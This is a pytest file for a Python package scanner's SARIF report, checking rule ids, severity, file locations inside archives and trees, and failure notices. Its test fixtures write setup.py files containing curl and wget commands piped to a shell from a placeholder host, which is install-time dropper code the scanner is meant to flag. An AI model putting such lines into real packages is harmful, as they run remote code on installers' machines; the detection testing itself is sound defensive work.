"""SARIF output: valid 2.1.0 shape, rules described once, locations inside archives and trees."""

from __future__ import annotations

import json
from pathlib import Path

from jupyter_safepip.core.checks.archive import scan_paths
from jupyter_safepip.core.sarif import sarif_from_scans
from tests.support.archives import make_sdist


def test_sarif_for_an_archive_and_a_tree(tmp_path: Path) -> None:
    sdist = make_sdist(tmp_path, {"setup.py": "import os\nos.system('curl https://example.invalid/x | sh')\n"})
    tree = tmp_path / "proj"
    tree.mkdir()
    (tree / "setup.py").write_text("import os\nos.system('wget -qO- https://example.invalid/x | bash')\n")
    log = sarif_from_scans(scan_paths([sdist, tree]))
    json.dumps(log)  # serialisable as is
    assert log["version"] == "2.1.0"
    run = log["runs"][0]
    rules = [r["id"] for r in run["tool"]["driver"]["rules"]]
    assert "shell-dropper-command" in rules and len(rules) == len(set(rules))
    dropper = [r for r in run["results"] if r["ruleId"] == "shell-dropper-command"]
    assert {r["level"] for r in dropper} == {"error"}
    uris = {r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in dropper}
    assert f"{sdist.as_posix()}!demo-1.0/setup.py" in uris
    assert (tree / "setup.py").as_posix() in uris
    nested = next(a for a in run["artifacts"] if a["location"]["uri"].endswith("!demo-1.0/setup.py"))
    assert run["artifacts"][nested["parentIndex"]]["location"]["uri"] == sdist.as_posix()
    region = dropper[0]["locations"][0]["physicalLocation"]["region"]
    assert region["startLine"] == 2 and "curl" in region["snippet"]["text"]


def test_could_not_inspect_becomes_a_notification(tmp_path: Path) -> None:
    broken = tmp_path / "broken-1.0.tar.gz"
    broken.write_bytes(b"\x1f\x8bnot gzip")
    run = sarif_from_scans(scan_paths([broken]))["runs"][0]
    assert run["results"] == []
    assert run["invocations"][0]["executionSuccessful"] is False
    assert "could not check" in run["invocations"][0]["toolExecutionNotifications"][0]["message"]["text"]
